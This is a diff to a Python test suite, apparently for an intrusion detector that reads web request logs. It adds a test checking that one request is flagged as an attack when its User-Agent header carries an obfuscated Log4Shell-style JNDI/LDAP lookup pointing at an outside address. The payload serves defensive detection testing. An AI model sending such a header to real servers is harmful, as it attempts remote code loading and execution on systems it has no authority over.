@@ -128,6 +128,15 @@ def test_an_attack_without_effect_says_so_and_shows_no_weakness(wire, tmp_path):
     assert finding.confidence < 0.7
 
 
+def test_one_lookup_by_jndi_in_a_header_is_an_attack(wire, tmp_path):
+    for number in range(20):
+        wire.web(VISITOR, f"GET /page{number}", agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
+    wire.web(ATTACKER, "GET /", agent="${${lower:j}ndi:${lower:l}dap://198.51.100.7/x}")
+    (finding,) = wire.findings(tmp_path)
+    assert finding.roles["attacker"] == [ATTACKER]
+    assert phases(finding)["expression-injection"]["worked"] != "yes"
+
+
 def test_ordinary_visitors_are_not_accused(wire, tmp_path):
     for number in range(30):
         client = f"192.0.2.{number}"
